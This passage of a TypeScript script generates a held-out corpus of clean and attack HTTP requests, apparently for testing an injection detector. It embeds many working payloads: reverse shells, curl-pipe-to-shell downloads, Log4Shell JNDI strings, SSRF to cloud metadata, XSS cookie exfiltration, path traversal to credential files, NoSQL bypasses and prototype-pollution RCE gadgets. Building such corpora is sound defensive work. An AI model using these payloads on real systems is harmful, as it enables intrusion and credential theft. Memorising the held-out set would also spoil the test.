    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("cat /etc/passwd")}',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('whoami'))$p.waitFor()",
    '<%= `cat /etc/passwd` %>',
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{ ''.__class__.__mro__[1].__subclasses__()[408]('whoami',shell=True,stdout=-1).communicate() }}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /proc/self/environ').read()}}",
    '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__[\'__import__\'](\'os\').popen("ls /").read()}}{% endif %}{% endfor %}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    '#{7*7}${7*7}{{7*7}}<%= 7*7 %>${{7*7}}',
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('env')\")() }}",
  ],
  command: [
    '; curl -s http://203.0.113.50/a.sh | sh',
    '$(wget -qO- http://45.9.148.22/x|sh)',
    'model.stl`id`',
    'example.com | nc -e /bin/sh 198.51.100.9 4444',
    '8.8.8.8 && cat /etc/passwd',
    '127.0.0.1; bash -i >& /dev/tcp/10.0.0.66/9001 0>&1',
    'x||ping -c 10 127.0.0.1||',
    ';${IFS}cat${IFS}/etc/shadow',
    "() { :; }; /bin/bash -c 'curl http://203.0.113.9/sh|bash'",
    'sample.fastq\nwhoami\n',
    '$(echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3N8c2g= | base64 -d | sh)',
    'bracket.step; rm -rf /var/lib/meshvault/*',
    '& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.4/p.ps1\')"',
    'DejaVu Sans\'; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.3",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\' #',
    'a.png -write /var/www/html/shell.php; echo',
    '|| curl http://203.0.113.50/$(whoami).$(hostname)',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '....//....//....//....//etc/passwd',
    '/var/www/app/../../../etc/shadow',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '../../../../proc/self/environ',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '../../../../../../root/.ssh/id_rsa',
    '../../config/database.yml',
    '..;/..;/WEB-INF/web.xml',
    '../../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
    '..././..././..././etc/hosts',
    'C:\\..\\..\\Windows\\System32\\drivers\\etc\\hosts',
    '%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    'uploads/../../../.env',
    '/proc/self/cwd/../../../home/app/.aws/credentials',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://127.0.0.1:2375/containers/json',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
    'http://2852039166/latest/user-data',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'http://localhost:8500/v1/agent/self',
    'file:///etc/passwd',
    'http://0x7f000001:9200/_cat/indices?v',
    'http://169.254.170.2/v2/credentials/',
    'dict://127.0.0.1:11211/stats',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
    'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    'http://cdn.shopnest.com@169.254.169.254/latest/meta-data/',
    'http://127.1:8080/actuator/env',
    'http://[fd00:ec2::254]/latest/meta-data/',
  ],
  log4shell: [
    '${jndi:ldap://198.51.100.14:1389/Exploit}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://x.oast.pro/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.77:1099/obj}',
    '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.c6h3k.dnslog.cn}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}',
    '${jndi:ldaps://log.interact.sh/${sys:java.version}}',
    '${${lower:jndi}:${lower:rmi}://45.83.64.1/probe}',
    '${jndi:ldap://127.0.0.1#evil.example:1389/a}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.burpcollaborator.net/z}',
    '${${upper:j}ndi:${upper:l}dap://192.0.2.44/cn=x}',
    '${jndi:nis://203.0.113.9/o}',
    '${jndi:ldap://${hostName}.${ctx:loginId}.c2.example/a}',
    '${${::-j}ndi:ldap://${date:MM}x.example/a}',
    '${jndi:iiop://198.51.100.61:3700/x}',
  ],
  xss: [
    "<script>fetch('https://203.0.113.5/c?'+document.cookie)</script>",
    '<img src=x onerror=alert(document.domain)>',
    "\"><svg/onload=import('//xss.example/m.js')>",
    'javascript:alert(document.cookie)//',
    '<iframe srcdoc="<script>parent.location=\'//evil.example/?\'+parent.document.cookie</script>">',
    "<details open ontoggle=eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlLycrbG9jYWxTdG9yYWdlLnRva2VuKQ=='))>",
    '<a href="jAvAsCrIpT&colon;alert(1)">click</a>',
    '<body onpageshow=alert(1)>',
    "';alert(String.fromCharCode(88,83,83))//",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    "<input autofocus onfocus=fetch('//x.example/'+document.cookie)>",
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<video><source onerror="javascript:alert(1)">',
    '</textarea><script src=//xss.example/k.js></script>',
  ],
};

const EMBED: Record<string, Array<(p: string) => string>> = {
  sql: [
    (p) => `Hi, please look up record ${p} and tell me why it was applied twice. Thanks!`,
    (p) => `Search for ${p} returns nothing, but I know it exists?`,
  ],
  template: [
    (p) => `Hey ${p}, thanks for being a member — see you Sunday!`,
    (p) => `Subject idea: "${p} — your weekly picks are here"`,
  ],
  command: [
    (p) => `Render failed again for ${p} — can you rerun the job please?`,
    (p) => `Please run the check against ${p} when you get a chance.`,
  ],
  'path-traversal': [
    (p) => `Report attached: ![scan](${p}) — let me know if it doesn't show up.`,
    (p) => `See the attachment [export](${p}) for the full list.`,
  ],
  ssrf: [
    (p) => `Our files are hosted here now: ${p} — please re-import them tonight.`,
    (p) => `Preview of the source: ${p} (link should unfurl)`,
  ],
  log4shell: [
    (p) => `It broke for me at step 3, error said ${p} and then nothing loaded.`,
    (p) => `Hello ${p} team, quick question about my account.`,
  ],
  xss: [
    (p) => `Great stuff, highly recommend!! ${p} Works perfectly.`,
    (p) => `Meeting notes: ${p} see you all next week`,
  ],
};

const HEADER_FOR: Record<string, string[]> = {
  sql: ['x-forwarded-for', 'x-tenant-id', 'x-client-id'],
  template: ['x-display-name', 'x-greeting'],
  command: ['user-agent', 'x-hostname'],
  'path-traversal': ['x-file-name', 'x-template'],
  ssrf: ['x-callback-url', 'x-forwarded-host', 'x-original-url'],
  log4shell: ['user-agent', 'x-api-version', 'referer', 'x-forwarded-for'],
  xss: ['referer', 'user-agent'],
};
const COOKIE_FOR: Record<string, string[]> = {
  sql: ['tenant', 'cart_id', 'region'],
  template: ['display_name', 'greeting'],
  command: ['export_name', 'device'],
  'path-traversal': ['lang', 'theme', 'template'],
  ssrf: ['return_to', 'avatar'],
  log4shell: ['session', 'lang', 'tracking_id'],
  xss: ['last_search', 'display_name'],
};

const TECHS_STRING = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
  'embedded',
];
const TECHS_BY_FAMILY: Record<string, string[]> = {
  sql: TECHS_STRING,
  template: TECHS_STRING,
  command: TECHS_STRING.filter((t) => t !== 'key'),
  'path-traversal': TECHS_STRING,
  ssrf: TECHS_STRING.filter((t) => t !== 'key'),
  log4shell: TECHS_STRING,
  xss: TECHS_STRING,
};

interface Attack extends Req {
  family: string;
  technique: string;
}

function stringAttack(family: string, technique: string, p: string, slot: Slot): Attack {
  const d = slot.d;
  const base = slot.base();
  const f = slot.field;
  const mk = (method: string, path: string, headers: H, body: string): Attack => ({
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers,
    body,
  });
  switch (technique) {
    case 'plain':
      return mk('POST', slot.post, anyClient(d, jct()), j({ ...base, [f]: p }));
    case 'nested':
      return mk(
        'POST',
        slot.post,
        anyClient(d, jct()),
        j(
          pick([
            { data: { type: slot.res.toLowerCase(), attributes: { ...base, [f]: p } } },
            { request: { options: { ...base, [f]: p } } },
            { [slot.res.toLowerCase()]: { meta: { source: 'web' }, details: { [f]: p } } },
          ]),
        ),
      );
    case 'key': {
      const holder = family === 'path-traversal' ? 'files' : pick(['filters', 'fields', 'metadata', 'sort']);
      const val = family === 'path-traversal' ? '<?php system($_GET["c"]); ?>' : pick(['asc', '1', 'true']);
      return mk('POST', slot.post, anyClient(d, jct()), j({ ...base, [holder]: { [p]: val } }));
    }
    case 'array': {
      const benign: Record<string, string> = {
        sql: '1001',
        template: 'Hello',
        command: 'ok.stl',
        'path-traversal': 'notes.pdf',
        ssrf: 'https://cdn.shopnest.com/img/1.jpg',
        log4shell: 'ok',
        xss: 'nice',
      };
      return mk(
        'POST',
        slot.post,
        anyClient(d, jct()),
        j({ ...base, [`${f}s`]: [benign[family] ?? 'x', p] }),
      );
    }
    case 'unicode-escape':
      return mk('POST', slot.post, anyClient(d, jct()), bodyWithEscaped({ ...base, [f]: '__PAYLOAD__' }, p));
    case 'json-in-string':
      return mk(
        'POST',
        slot.post,
        anyClient(d, jct()),
        j({ ...base, [pick(['options', 'payload', 'settings_json', 'filter'])]: j({ [f]: p, v: 2 }) }),
      );
    case 'base64':
      return mk(
        'POST',
        slot.post,
        anyClient(d, jct()),
        j(
          chance(0.5)
            ? { ...base, [f]: b64(p), [`${f}_encoding`]: 'base64' }
            : { ...base, state: b64(j({ [f]: p, ts: 1790000000 + int(0, 99999) })) },
        ),
      );
    case 'graphql-variable':
      return mk(
        'POST',
        '/graphql',
        anyClient(d, jct()),
        j({
          operationName: `Update${slot.res}`,
          query: `mutation Update${slot.res}($id: ID!, $value: String!) { update${slot.res}(id: $id, input: { ${f}: $value }) { id ${f} } }`,
          variables: { id: String(int(100, 99999)), value: p },
        }),
      );
    case 'double-encoded':
      return mk('GET', `${slot.get}?${slot.param}=${dblEnc(p)}&page=1`, anyClient(d), '');
    case 'query-param':
      return mk(
        'GET',
        `${slot.get}?${slot.param}=${encodeURIComponent(p)}${chance(0.5) ? '&limit=20' : ''}`,
        anyClient(d),
        '',
      );
    case 'header': {
      const hn = pick(HEADER_FOR[family] ?? ['x-custom']);
      const h = anyClient(d);
      h[hn] = p.replace(/[\r\n]+/g, ' ');
      return mk('GET', `${slot.get}?${slot.param}=${pick(['1', 'test', 'latest'])}`, h, '');
    }
    case 'cookie': {
      const cn = pick(COOKIE_FOR[family] ?? ['pref']);
      const h = browser(d);
      h.cookie = `${h.cookie}; ${cn}=${encodeURIComponent(p)}`;
      return mk('GET', `${slot.get}?${slot.param}=${pick(['1', 'recent'])}`, h, '');
    }
    case 'form': {
      const o: Record<string, string> = {};
      for (const [k, v] of Object.entries(base)) if (typeof v !== 'object') o[k] = String(v);
      o[f] = p;
      return mk('POST', slot.post, browser(d, 'application/x-www-form-urlencoded'), formBody(o));
    }
    case 'multipart': {
      const b = boundary();
      const parts: Part[] = [{ name: 'meta', value: j(base), type: 'application/json' }];
      if (family === 'path-traversal' || family === 'command') {
        parts.push({
          name: 'file',
          filename: p.replace(/[\r\n"]/g, ''),
          type: 'application/octet-stream',
          value: 'solid x\nendsolid x',
        });
      } else {
        parts.push({ name: f, value: p });
      }
      return mk('POST', slot.post, browser(d, `multipart/form-data; boundary=${b}`), multipart(parts, b));
    }
    default: {
      const sentence = pick(EMBED[family] ?? [(x: string) => x])(p);
      return mk(
        'POST',
        slot.post,
        anyClient(d, jct()),
        j({ ...base, [pick(['comment', 'message', 'note', 'description'])]: sentence }),
      );
    }
  }
}

// NoSQL attacks (structured operators)
function nosqlAttacks(): Attack[] {
  const out: Attack[] = [];
  const add = (technique: string, _d: Dom, method: string, path: string, headers: H, body: string): void => {
    out.push({ kind: 'attack', family: 'nosql', technique, method, path, headers, body });
  };
  const ops = [
    { $ne: null },
    { $gt: '' },
    { $regex: '^adm', $options: 'i' },
    { $where: 'sleep(5000) || true' },
    { $where: 'this.password.match(/^a.*/) && sleep(3000)' },
    { $nin: ['__never__'] },
    { $exists: true },
    {
      $expr: {
        $function: {
          body: "function(){return require('child_process').execSync('id')}",
          args: [],
          lang: 'js',
        },
      },
    },
  ];
  const op = (i: number): unknown => ops[i % ops.length];
  const logins: Array<[Dom, string, string]> = [
    ['utility', '/api/auth/login', 'username'],
    ['church', '/api/v2/auth/signin', 'email'],
    ['shop', '/api/customers/login', 'email'],
    ['devops', '/api/v1/auth/token', 'user'],
    ['marketing', '/v3/auth/session', 'email'],
    ['cad', '/api/auth/login', 'username'],
    ['research', '/api/v1/auth/login', 'netid'],
    ['translation', '/api/auth/login', 'login'],
  ];
  for (let i = 0; i < 3; i++) {
    const [d, path, u] = logins[i] ?? logins[0]!;
    add(
      'plain',
      d,
      'POST',
      path,
      anyClient(d, jct()),
      j({ [u]: pick(['admin', 'admin@parishhub.org', 'root']), password: op(i) }),
    );
  }
  for (let i = 0; i < 3; i++) {
    const [d, path, u] = logins[i + 3] ?? logins[0]!;
    add(
      'nested',
      d,
      'POST',
      path,
      anyClient(d, jct()),
      j({ credentials: { [u]: op(i + 1), password: { $ne: 'x' } }, remember: true }),
    );
  }
  add(
    'key',
    'shop',
    'POST',
    '/api/catalog/products/query',
    sdk('shop', jct()),
    j({ $where: 'function(){ sleep(5000); return true; }', status: 'active' }),
  );
  add(
    'key',
    'research',
    'POST',
    '/api/v1/samples/search',
    browser('research', jct()),
    j({ project_id: 'PRJ-214', $or: [{ owner: 'me' }, { visibility: { $ne: 'private' } }] }),
  );
  add(
    'key',
    'marketing',
    'POST',
    '/v3/contacts/query',
    sdk('marketing', jct()),
    j({ filter: { email: 'x', $where: 'this.api_key && this.api_key.length > 0' } }),
  );
  add(
    'array',
    'shop',
    'POST',
    '/api/orders/lookup',
    browser('shop', jct()),
    j({ order_ids: [{ $gt: '' }], email: { $ne: null } }),
  );
  add(
    'array',
    'church',
    'POST',
    '/api/v2/members/batch',
    sdk('church', jct()),
    j({ ids: [{ $regex: '.*' }] }),
  );
  add(
    'array',
    'devops',
    'POST',
    '/api/v1/incidents/query',
    sdk('devops', jct()),
    j({
      pipeline: [
        { $lookup: { from: 'users', localField: 'commander', foreignField: 'username', as: 'u' } },
        { $project: { 'u.password_hash': 1, 'u.mfa_secret': 1 } },
      ],
    }),
  );
  add(
    'unicode-escape',
    'utility',
    'POST',
    '/api/auth/login',
    mobile('utility', jct()),
    '{"username":"admin","password":{"\\u0024ne":null}}',
  );
  add(
    'unicode-escape',
    'cad',
    'POST',
    '/api/auth/login',
    browser('cad', jct()),
    '{"username":{"\\u0024regex":"^a"},"password":{"\\u0024gt":""}}',
  );
  add(
    'unicode-escape',
    'translation',
    'POST',
    '/api/tm/lookup',
    sdk('translation', jct()),
    '{"source_text":{"\\u0024where":"sleep(4000)||1"}}',
  );
  add(
    'json-in-string',
    'marketing',
    'GET',
    `/v3/contacts?filter=${encodeURIComponent('{"email":{"$ne":null},"unsubscribed":{"$ne":false}}')}`,
    sdk('marketing'),
    '',
  );
  add(
    'json-in-string',
    'shop',
    'POST',
    '/api/catalog/products/query',
    sdk('shop', jct()),
    j({ query: '{"$where":"sleep(5000)"}', page: 1 }),
  );
  add(
    'json-in-string',
    'devops',
    'POST',
    '/api/v1/incidents/query',
    browser('devops', jct()),
    j({ filter: j({ commander: { $regex: '.*' }, token: { $exists: true } }) }),
  );
  add(
    'base64',
    'research',
    'GET',
    `/api/v1/samples?q=${b64(j({ owner: { $ne: null }, $where: 'sleep(3000)' }))}`,
    browser('research'),
    '',
  );
  add(
    'base64',
    'cad',
    'POST',
    '/api/models/filter',
    sdk('cad', jct()),
    j({ cursor: b64(j({ _id: { $gt: '' }, private: { $ne: false } })) }),
  );
  add(
    'graphql-variable',
    'shop',
    'POST',
    '/graphql',
    browser('shop', jct()),
    j({
      operationName: 'Orders',
      query: 'query Orders($where: JSON) { orders(where: $where) { id email total } }',
      variables: { where: { email: { $ne: null } } },
    }),
  );
  add(
    'graphql-variable',
    'church',
    'POST',
    '/graphql',
    mobile('church', jct()),
    j({
      query:
        'mutation Login($email: JSON!, $password: JSON!) { login(email: $email, password: $password) { token } }',
      variables: { email: 'pastor@parishhub.org', password: { $gt: '' } },
    }),
  );
  add(
    'double-encoded',
    'utility',
    'GET',
    `/api/billing/accounts?account%255B%2524ne%255D=1&zip%255B%2524gt%255D=`,
    browser('utility'),
    '',
  );
  add(
    'double-encoded',
    'marketing',
    'GET',
    `/v3/contacts?email%255B%2524regex%255D=.%252A`,
    sdk('marketing'),
    '',
  );
  add(
    'query-param',
    'shop',
    'GET',
    '/api/customers/reset?email[$ne]=nobody@x.com&token[$ne]=1',
    browser('shop'),
    '',
  );
  add(
    'query-param',
    'devops',
    'GET',
    '/api/v1/incidents?commander[$regex]=^a&status[$nin][]=closed',
    sdk('devops'),
    '',
  );
  add('query-param', 'research', 'GET', '/api/v1/samples?owner[$where]=sleep(5000)', browser('research'), '');
  add(
    'header',
    'devops',
    'GET',
    '/api/v1/incidents',
    { ...sdk('devops'), 'x-filter': '{"tenant":{"$ne":null}}' },
    '',
  );
  add(
    'cookie',
    'shop',
    'GET',
    '/api/cart',
    { ...browser('shop'), cookie: `session=${rstr(32)}; cart=j%3A%7B%22%24ne%22%3Anull%7D` },
    '',
  );
  add(
    'cookie',
    'marketing',
    'GET',
    '/v3/me',
    { ...browser('marketing'), cookie: `sid=j%3A%7B%22%24gt%22%3A%22%22%7D; _ga=GA1.1.123.456` },
    '',
  );
  add(
    'form',
    'utility',
    'POST',
    '/account/login',
    browser('utility', 'application/x-www-form-urlencoded'),
    'username=admin&password%5B%24ne%5D=wrong&remember_me=1',
  );
  add(
    'form',
    'church',
    'POST',
    '/api/v2/auth/signin',
    browser('church', 'application/x-www-form-urlencoded'),
    'email%5B%24regex%5D=.*%40parishhub.org&password%5B%24exists%5D=true',
  );
  {
    const b = boundary();
    add(
      'multipart',
      'cad',
      'POST',
      '/api/auth/login',
      browser('cad', `multipart/form-data; boundary=${b}`),
      multipart(
        [
          { name: 'username', value: 'admin' },
          { name: 'password[$ne]', value: '' },
        ],
        b,
      ),
    );
  }
  add(
    'embedded',
    'shop',
    'POST',
    '/api/catalog/products/query',
    browser('shop', jct()),
    j({ search: "jacket' || this.price > 0 && sleep(5000) || 'x" }),
  );
  add(
    'embedded',
    'translation',
    'POST',
    '/api/tm/lookup',
    sdk('translation', jct()),
    j({ source_text: "Save'; return db.users.find({}).toArray(); var x='" }),
  );
  return out;
}

// Prototype pollution attacks
function ppAttacks(): Attack[] {
  const out: Attack[] = [];
  const add = (technique: string, method: string, path: string, headers: H, body: string): void => {
    out.push({ kind: 'attack', family: 'prototype-pollution', technique, method, path, headers, body });
  };
  const gadgets: unknown[] = [
    { isAdmin: true },
    {
      outputFunctionName:
        "_tmp1;global.process.mainModule.require('child_process').execSync('curl -s http://203.0.113.8/s|sh');var __tmp2",
    },
    {
      shell: '/proc/self/exe',
      argv0: "console.log(require('child_process').execSync('id').toString())//",
      NODE_OPTIONS: '--require /proc/self/cmdline',
    },
    {
      sourceURL:
        "\u000areturn e => {return process.mainModule.require('child_process').execSync('cat /etc/passwd')}\u000a//",
    },
    { role: 'owner', permissions: ['*'] },
    { execArgv: ["--eval=require('child_process').execSync('wget -qO- 198.51.100.5/x|sh')"] },
    {
      client: 1,
      escapeFunction:
        "JSON.stringify; process.mainModule.require('child_process').exec('id | nc 203.0.113.2 80')",
    },
    { allowedHosts: ['*'], exposedHeaders: ['x-pwned'] },
  ];
  const g = (i: number): unknown => gadgets[i % gadgets.length];
  add(
    'plain',
    'POST',
    '/api/v2/members/4471/preferences',
    browser('church', jct()),
    `{"newsletter":true,"__proto__":${j(g(0))}}`,
  );
  add(
    'plain',
    'PUT',
    '/v3/journeys/jr_88a/settings',
    sdk('marketing', jct()),
    `{"__proto__":${j(g(1))},"name":"Welcome series v4"}`,
  );
  add(
    'plain',
    'POST',
    '/api/catalog/products/10021/metafields',
    sdk('shop', jct()),
    `{"__proto__":${j(g(2))}}`,
  );
  add(
    'nested',
    'PATCH',
    '/api/models/k3d9a1',
    browser('cad', 'application/merge-patch+json'),
    `{"print_settings":{"infill":"20%","__proto__":${j(g(4))}}}`,
  );
  add(
    'nested',
    'POST',
    '/api/v1/notebooks/settings',
    browser('research', jct()),
    `{"user":{"display":{"theme":"dark","__proto__":${j(g(3))}}}}`,
  );
  add(
    'nested',
    'PATCH',
    '/api/v1/runbooks/db-failover',
    browser('devops', 'application/json-patch+json'),
    j([{ op: 'add', path: '/__proto__/isAdmin', value: true }]),
  );
  add(
    'key',
    'POST',
    '/api/billing/accounts/4471022/settings',
    browser('utility', jct()),
    j({ constructor: { prototype: g(0) } }),
  );
  add(
    'key',
    'POST',
    '/api/tm/42/config',
    sdk('translation', jct()),
    j({
      path: '__proto__.outputFunctionName',
      value: "x;process.mainModule.require('child_process').execSync('id');x",
    }),
  );
  add(
    'key',
    'POST',
    '/v3/segments/412/set',
    sdk('marketing', jct()),
    j({ 'constructor.prototype.isAdmin': true, 'rules.0.value': '30d' }),
  );
  add(
    'array',
    'POST',
    '/api/catalog/bulk-update',
    sdk('shop', jct()),
    `{"items":[{"sku":"SN-10021-M","price":"99.00"},{"__proto__":${j(g(5))}}]}`,
  );
  add(
    'array',
    'POST',
    '/api/v2/events/batch',
    browser('church', jct()),
    `[{"title":"Picnic"},{"constructor":{"prototype":${j(g(6))}}}]`,
  );
  add(
    'unicode-escape',
    'POST',
    '/api/v2/members/4471/preferences',
    browser('church', jct()),
    `{"\\u005f\\u005fproto\\u005f\\u005f":${j(g(0))}}`,
  );
  add(
    'unicode-escape',
    'PUT',
    '/api/models/k3d9a1/settings',
    sdk('cad', jct()),
    `{"\\u0063onstructor":{"\\u0070rototype":${j(g(1))}}}`,
  );
  add(
    'unicode-escape',
    'POST',
    '/api/v1/incidents/INC-4471/labels',
    sdk('devops', jct()),
    `{"labels":{"__pro\\u0074o__":${j(g(4))}}}`,
  );
  add(
    'json-in-string',
    'POST',
    '/api/v1/notebooks/prefs',
    browser('research', jct()),
    j({ prefs: `{"__proto__":${j(g(5))}}` }),
  );
  add(
    'json-in-string',
    'POST',
    '/v3/journeys/import',
    sdk('marketing', jct()),
    j({ definition: `{"name":"x","constructor":{"prototype":${j(g(2))}}}` }),
  );
  add(
    'base64',
    'POST',
    '/api/projects/412/settings/import',
    sdk('translation', jct()),
    j({ format: 'base64-json', data: b64(`{"__proto__":${j(g(1))}}`) }),
  );
  add(
    'base64',
    'GET',
    `/api/catalog/search?state=${b64(`{"filters":{"__proto__":${j(g(0))}}}`)}`,
    browser('shop'),
    '',
  );
  add(
    'graphql-variable',
    'POST',
    '/graphql',
    browser('shop', jct()),
    `{"operationName":"UpdateProfile","query":"mutation UpdateProfile($input: JSON!) { updateProfile(input: $input) { id } }","variables":{"input":{"nickname":"kim","__proto__":${j(g(4))}}}}`,
  );
  add(
    'graphql-variable',
    'POST',
    '/graphql',
    sdk('devops', jct()),
    `{"query":"mutation Cfg($c: JSON!) { setServiceConfig(service: \\"checkout\\", config: $c) { ok } }","variables":{"c":{"constructor":{"prototype":${j(g(6))}}}}}`,
  );
  add(
    'double-encoded',
    'GET',
    '/api/v2/events?__proto__%255BisAdmin%255D=true&category=youth',
    browser('church'),
    '',
  );
  add(
    'double-encoded',
    'GET',
    '/api/models/search?constructor%255Bprototype%255D%255Bpolluted%255D=1&q=gear',
    browser('cad'),
    '',
  );
  add(
    'query-param',
    'GET',
    '/api/billing/accounts?__proto__[isAdmin]=true&status=active',
    browser('utility'),
    '',
  );
  add('query-param', 'GET', '/api/v1/entries?constructor[prototype][role]=admin', browser('research'), '');
  add(
    'query-param',
    'GET',
    `/v3/contacts?filter[__proto__][outputFunctionName]=${encodeURIComponent("x;process.mainModule.require('child_process').execSync('id');x")}`,
    sdk('marketing'),
    '',
  );
  add(
    'header',
    'POST',
    '/api/tm/42/units',
    { ...sdk('translation', jct()), 'x-options': '{"__proto__":{"isAdmin":true}}' },
    j({ source: { lang: 'en', text: 'Save' } }),
  );
  add(
    'cookie',
    'GET',
    '/api/cart',
    {
      ...browser('shop'),
      cookie: `session=${rstr(32)}; prefs=j%3A%7B%22__proto__%22%3A%7B%22isAdmin%22%3Atrue%7D%7D`,
    },
    '',
  );
  add(
    'cookie',
    'GET',
    '/api/v2/me',
    {
      ...browser('church'),
      cookie: `sid=${rstr(24)}; settings=j%3A%7B%22constructor%22%3A%7B%22prototype%22%3A%7B%22role%22%3A%22admin%22%7D%7D%7D`,
    },
    '',
  );
  add(
    'form',
    'POST',
    '/give/donate',
    browser('church', 'application/x-www-form-urlencoded'),
    `amount=5&__proto__%5BoutputFunctionName%5D=${encodeURIComponent("_x;global.process.mainModule.require('child_process').execSync('id');var _y")}`,
  );
  add(
    'form',
    'POST',
    '/u/unsubscribe',
    browser('marketing', 'application/x-www-form-urlencoded'),
    'email=a%40b.co&constructor%5Bprototype%5D%5BisAdmin%5D=true',
  );
  {
    const b = boundary();
    add(
      'multipart',
      'POST',
      '/api/models/upload',
      browser('cad', `multipart/form-data; boundary=${b}`),
      multipart(
        [
          { name: '__proto__[isAdmin]', value: 'true' },
          { name: 'file', filename: 'clip.stl', type: 'model/stl', value: 'solid a\nendsolid a' },
        ],
        b,
      ),
    );
  }
  {
    const b = boundary();
    add(
      'multipart',
      'POST',
      '/api/v1/notebooks/import',
      browser('research', `multipart/form-data; boundary=${b}`),
      multipart(
        [
          { name: 'options', value: `{"__proto__":${j(g(2))}}`, type: 'application/json' },
          { name: 'file', filename: 'entries.csv', type: 'text/csv', value: 'title,body\na,b' },
        ],
        b,
      ),
    );
  }
  add(
    'embedded',
    'POST',
    '/api/catalog/products/10021/reviews',
    browser('shop', jct()),
    j({ rating: 5, body: 'Love it!', options: { 'variant.__proto__.isAdmin': true } }),
  );
  return out;
}

// ---------------------------------------------------------------- assemble

function buildClean(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const n = 450;
  for (let i = 0; i < n; i++) {
    const entry = CLEAN[i % CLEAN.length];
    if (!entry) continue;
    const r = entry[1]();
    out.push({
      id: `h15c${out.length + 1}`,
      kind: r.kind,
      method: r.method,
      path: r.path,
      headers: r.headers,
      body: r.body,
    });
  }
  return out;
}

function buildAttacks(): CorpusRequest[] {
  const all: Attack[] = [];
  const fams = ['sql', 'template', 'command', 'path-traversal', 'ssrf', 'log4shell', 'xss'];
  for (const fam of fams) {
    const techs = TECHS_BY_FAMILY[fam] ?? TECHS_STRING;
    const slots = SLOTS[fam] ?? [];
    const pays = PAYLOADS[fam] ?? [];
    for (let k = 0; k < 33; k++) {
      const t = techs[k % techs.length] ?? 'plain';
      const slot = slots[(k * 3) % slots.length];
      const p = pays[(k * 5) % pays.length];
      if (!slot || p === undefined) continue;
      all.push(stringAttack(fam, t, p, slot));
    }
  }
  all.push(...nosqlAttacks(), ...ppAttacks());
  return all.map((a, i) => ({
    id: `h15a${i + 1}`,
    kind: a.kind,
    family: a.family,
    technique: a.technique,
    method: a.method,
    path: a.path,
    headers: a.headers,
    body: a.body,
  }));
}

/** Held-out corpus 15 (clean and attack requests). */
export const heldout15: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: buildClean(),
  attacks: buildAttacks(),
};

/** Body fields an operator would declare as rich-text HTML or source code for these APIs. */
export const HELDOUT15_EXCLUDE_FIELDS: string[] = [
  'body.entry.content_html',
  'body.cell.source',
  'body.event.description_html',
  'body.page.html',
  'body.email.html',
  'body.template.liquid',
  'body.product.description_html',
  'body.runbook.script',
  'body.script.source',
];

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout15.json'), `${JSON.stringify(heldout15.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout15.json'), `${JSON.stringify(heldout15.attacks, null, 2)}\n`);
  console.log(`clean: ${heldout15.clean.length}, attacks: ${heldout15.attacks.length}`);
}
